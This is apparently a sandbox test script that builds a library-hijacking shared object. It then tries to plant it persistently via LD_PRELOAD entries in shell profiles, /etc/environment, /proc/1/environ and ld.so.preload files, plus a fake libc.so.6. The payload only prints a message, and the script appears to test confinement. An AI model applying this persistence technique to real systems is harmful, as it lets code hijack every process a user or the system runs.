# expect: accepted
# A library that takes over whoever loads it, left where later processes might: in the home folder, which is also where
# this program looks for its libraries, and in every file that names what is to be loaded first.
cat > evil.c << 'END'
#include <unistd.h>
__attribute__((constructor)) static void take_over(void)
{
    _exit(write(1, "taken over\n", 11) == 11 ? 0 : 1);
}
END
cat > main.c << 'END'
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

__asm__(".section .rodata\nevil: .incbin \"evil.so\"\nevil_end: .text");
extern const char evil[], evil_end[];

static void leave(const char *name, const char *content, size_t size)
{
    int file = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (file >= 0 && write(file, content, size) >= 0)
        close(file);
}

static void leave_everywhere(const char *variable)
{
    static const char *const settings[] = {".profile", ".bashrc", ".pam_environment", "/etc/environment", "/proc/1/environ"};
    static const char *const lists[] = {"ld.so.preload", "/etc/ld.so.preload"};
    const char *path = strchr(variable, '/');
    for (size_t i = 0; i < sizeof settings / sizeof *settings; i++)
        leave(settings[i], variable, strlen(variable));
    for (size_t i = 0; i < sizeof lists / sizeof *lists; i++)
        leave(lists[i], path, strlen(path));
    leave("libc.so.6", evil, evil_end - evil);
}

/* Shows that the library is one: whoever it is named to says nothing of his own. */
static int takes_over(const char *variable)
{
    char command[8192], said[64] = "";
    snprintf(command, sizeof command, "%s /bin/echo not taken over", variable);
    FILE *child = popen(command, "r");
    return child != NULL && fgets(said, sizeof said, child) != NULL && pclose(child) == 0 && strcmp(said, "taken over\n") == 0;
}

int main(void)
{
    char folder[4096], variable[8192];
    struct stat there;
    if (getcwd(folder, sizeof folder) == NULL || stat("evil.so", &there) == 0)
        return puts("it is still there") < 0;

    snprintf(variable, sizeof variable, "LD_PRELOAD=%s/evil.so", folder);
    leave("evil.so", evil, evil_end - evil);
    if (!takes_over(variable))
        return puts("the library is none") < 0;

    leave_everywhere(variable);
    puts("held");
}
END
gcc -shared -fPIC -o evil.so evil.c && gcc -Wl,-rpath,. -o main main.c
